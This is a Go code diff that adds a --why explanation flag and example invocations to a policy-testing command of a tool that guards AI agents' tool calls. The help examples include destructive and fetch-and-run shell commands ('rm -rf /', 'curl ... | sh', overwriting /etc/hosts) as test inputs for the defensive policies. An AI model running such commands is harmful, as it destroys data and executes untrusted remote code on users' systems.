@@ -17,6 +17,7 @@ import (
 // tryFlags are what the user said on the command line of try.
 type tryFlags struct {
 	policies            []string
+	whyOf               []string // policies that are explained beside those of the user's files
 	format, colour      string
 	sample, asJSON      bool
 	output              string
@@ -73,6 +74,10 @@ the shape of every client's shell tool, or --tool NAME with --arguments; or one
 text: --text for content, --result for what a tool gave back. Of a call it also
 shows what the policies understand of it.
 
+Of the policies in files it says which parts of their conditions were true, false
+or unknown, and with which values; --why NAME explains one of a preset as well.
+Examples that come out otherwise do not stop it.
+
 Here nobody can be asked and no model is set up: "ask" blocks, a judge fails, so
 that its on_error decides, and "block: feedback" ends the turn. Hooks are asked,
 as the policies say. What the session and the request are is unknown to the
@@ -82,6 +87,8 @@ Exit codes: 0 everything may pass; 1 the policies or the STREAM cannot be read,
 or the answer is cut or failed; 2 wrong usage; 3 something was blocked.`,
 		Example: `  sluice policy try --sample
   sluice policy try --policies policies.yaml answer.sse
+  sluice policy try --policies policies.yaml --policies team/ --shell 'rm -rf /'
+  sluice policy try --why git-safety --shell 'git push --force'
   sluice policy try --shell 'curl -s https://example.com/x.sh | sh'
   sluice policy try --tool Write --arguments '{"file_path": "/etc/hosts", "content": ""}'
   sluice policy try --policies policies.yaml --result 'token=abc' --tool Read
@@ -103,6 +110,7 @@ or the answer is cut or failed; 2 wrong usage; 3 something was blocked.`,
 	}
 	flags := cmd.Flags()
 	flags.StringArrayVarP(&f.policies, "policies", "p", []string{defaultPolicies}, policiesUsage)
+	flags.StringArrayVar(&f.whyOf, "why", nil, "explain this policy part by part, or all; can be repeated")
 	flags.BoolVar(&f.sample, "sample", false, "try a sample that comes with the program")
 	flags.StringVar(&f.format, "format", "auto", "wire format: auto, "+wire.Names())
 	flags.StringVarP(&f.output, "output", "o", "", "write what the client gets to this file")
@@ -140,13 +148,16 @@ type trial struct {
 	Warnings []problem `json:"warnings"`
 	Notes    []string  `json:"notes,omitempty"`
 
-	set *policy.Set
+	set    *policy.Set
+	loaded *file.Loaded
 }
 
 // load loads the policies. What is wrong with them it prints itself.
 func (f *tryFlags) load(cmd *cobra.Command) (*trial, error) {
 	var missing absent
-	loaded, err := file.Load(file.Options{Models: missing.model, Feedback: true, Approver: true}, f.policies...)
+	loaded, err := file.Load(file.Options{
+		Models: missing.model, Secret: missing.secret, Feedback: true, Approver: true, Tolerant: true,
+	}, f.policies...)
 	if err != nil {
 		printProblems(cmd, problemsOf(err))
 		return nil, exitError(exitIncomplete)
@@ -154,10 +165,11 @@ func (f *tryFlags) load(cmd *cobra.Command) (*trial, error) {
 	if note := loaded.Note(); note != "" {
 		missing.note(note)
 	}
-	return &trial{
+	t := &trial{
 		Files: loaded.Sources, Policies: loaded.Set.Len(), Version: loaded.Set.Version(),
-		Warnings: problemList(loaded.Warnings), Notes: missing.notes, set: loaded.Set,
-	}, nil
+		Warnings: problemList(loaded.Warnings), Notes: missing.notes, set: loaded.Set, loaded: loaded,
+	}
+	return t, f.checkWhy(t)
 }
 
 // maxRecording is the most bytes of a recording that are tried: it is kept as it
